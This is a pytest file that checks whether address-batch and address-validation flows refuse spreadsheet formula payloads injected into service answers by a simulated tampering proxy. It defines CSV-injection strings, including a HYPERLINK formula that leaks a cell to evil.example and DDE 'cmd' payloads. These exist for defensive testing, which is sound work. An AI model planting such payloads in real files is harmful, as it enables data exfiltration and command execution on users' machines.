"""A service whose answers carry formulas (as through a proxy that tampers with them): the address batch and
the address validation write none of them into the customer's file, list each in writeback-skipped.csv with
why, and no cell of any CSV file of the run starts like a formula."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from fileio.writeback_policy import FORMULA_REFUSED
from flows.address_batch import address_batch
from flows.address_validation import address_validation
from tests.fileio.test_formula_guard import assert_guarded
from tests.flows.calls import call
from tests.flows.conftest import Sandbox
from tests.outputs import output_records, output_rows

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
FAST = {"min_poll_interval_s": 0.05, "max_poll_interval_s": 0.2}
STREET = '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")'
TOWN = "=cmd|'/C calc'!A0"
HOUSE = "+1+1"
VALIDATED_TOWN = "@SUM(1+1)*cmd|'/C calc'!A0"
# The batch result's fields (in either spelling of its header) and the value each gets in place of another.
BATCH_FORMULAS = {
    "streetname": ("Lindenstrasse", STREET),
    "townname": ("Kriens", TOWN),
    "houseno": ("12", HOUSE),
}
FORMULA_TEXTS = ("HYPERLINK", "cmd|", HOUSE)


class Tampering(httpx.AsyncBaseTransport):
    """The sandbox's transport, every answer whose path ends with ``path_part`` rewritten by ``rewrite``."""

    def __init__(self, inner: httpx.AsyncBaseTransport, path_part: str, rewrite: Callable[[bytes], bytes]):
        self.inner, self.path_part, self.rewrite = inner, path_part, rewrite
        self.rewritten = 0

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self.inner.handle_async_request(request)
        if self.path_part not in request.url.path or response.status_code != 200:
            return response
        body = await response.aread()
        self.rewritten += 1
        headers = {
            k: v
            for k, v in response.headers.items()
            if k.lower() not in ("content-length", "content-encoding")
        }
        return httpx.Response(200, headers=headers, content=self.rewrite(body), request=request)


def _tamper(
    monkeypatch: pytest.MonkeyPatch, sandbox: Sandbox, path_part: str, rewrite: Callable[[bytes], bytes]
) -> Tampering:
    transport = Tampering(sandbox.transport, path_part, rewrite)
    monkeypatch.setattr("runtime.wiring.embedded.sandbox_transport", lambda settings: transport)
    return transport


def _batch_result(body: bytes) -> bytes:
    """The output file (or the zip holding it) with the street, town and house number fields replaced."""
    if body.startswith(b"PK\x03\x04"):
        source, buffer = zipfile.ZipFile(io.BytesIO(body)), io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as target:
            for item in source.infolist():
                target.writestr(item, _batch_result(source.read(item)))
        return buffer.getvalue()
    encoding = "utf-8"
    try:
        text = body.decode(encoding)
    except UnicodeDecodeError:
        encoding = "cp1252"
        text = body.decode(encoding)
    header, *lines = text.splitlines(keepends=True)
    names = [name.strip().casefold() for name in header.split("\t")]
    rewritten = [header]
    for line in lines:
        ending = line[len(line.rstrip("\r\n")) :]
        fields = line.rstrip("\r\n").split("\t")
        for position, name in enumerate(names[: len(fields)]):
            old, new = BATCH_FORMULAS.get(name, (None, None))
            if new is not None and fields[position] == old:
                fields[position] = new
        rewritten.append("\t".join(fields) + ending)
    return "".join(rewritten).encode(encoding)


def _validation_answer(body: bytes) -> bytes:
    """The validation answer with every ``city`` replaced."""

    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {
                k: VALIDATED_TOWN if k == "city" and isinstance(v, str) else walk(v) for k, v in value.items()
            }
        if isinstance(value, list):
            return [walk(item) for item in value]
        return value

    return json.dumps(walk(json.loads(body))).encode()


def _assert_no_formula_anywhere(out: Path) -> None:
    csv_files = sorted(out.rglob("*.csv"))
    assert csv_files
    for path in csv_files:
        if path.name.startswith("writeback"):
            for row in output_rows(path):
                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (path, row)
        else:
            assert_guarded(path)


async def test_a_batch_whose_answers_carry_formulas_writes_none_back(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    tampering = _tamper(monkeypatch, sandbox, "/downloadfile/", _batch_result)
    out = tmp_path / "out"

    summary = await call(
        address_batch, input_path=EXAMPLES / "address-batch.csv", output_dir=out, apply="all", **FAST
    )

    assert tampering.rewritten >= 1
    copy = (out / "writeback-sandbox.csv").read_text(encoding="utf-8")
    assert not any(text in copy for text in FORMULA_TEXTS)
    _assert_no_formula_anywhere(out)
    skipped = [
        line for line in output_records(out / "writeback-skipped.csv") if line["reason"] == FORMULA_REFUSED
    ]
    assert {(line["field"], line["answered"]) for line in skipped} >= {
        ("Streetname", "'" + STREET),
        ("TownName", "'" + TOWN),
    }
    assert summary.writeback["skipped"] >= len(skipped)


async def test_a_validation_whose_answer_carries_a_formula_writes_none_back(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, flow_env: Path, tmp_path: Path
) -> None:
    source = tmp_path / "addresses.csv"
    source.write_text(
        "KundenNr;Strasse;Hausnummer;PLZ;Ort\nA-1;Bahnhofstrasse;1;8001;Zuerich\n", encoding="utf-8"
    )
    tampering = _tamper(monkeypatch, sandbox, "/addresses/validation", _validation_answer)
    out = tmp_path / "out"

    summary = await call(address_validation, input_path=source, output_dir=out)

    assert tampering.rewritten == 1
    assert (out / "writeback-sandbox.csv").read_bytes() == source.read_bytes()
    _assert_no_formula_anywhere(out)
    [line] = output_records(out / "writeback-skipped.csv")
    assert (line["KundenNr"], line["field"], line["column"]) == ("A-1", "city", "Ort")
    assert (line["given"], line["answered"], line["reason"]) == (
        "Zuerich",
        "'" + VALIDATED_TOWN,
        FORMULA_REFUSED,
    )
    assert summary.writeback["cells_changed"] == 0
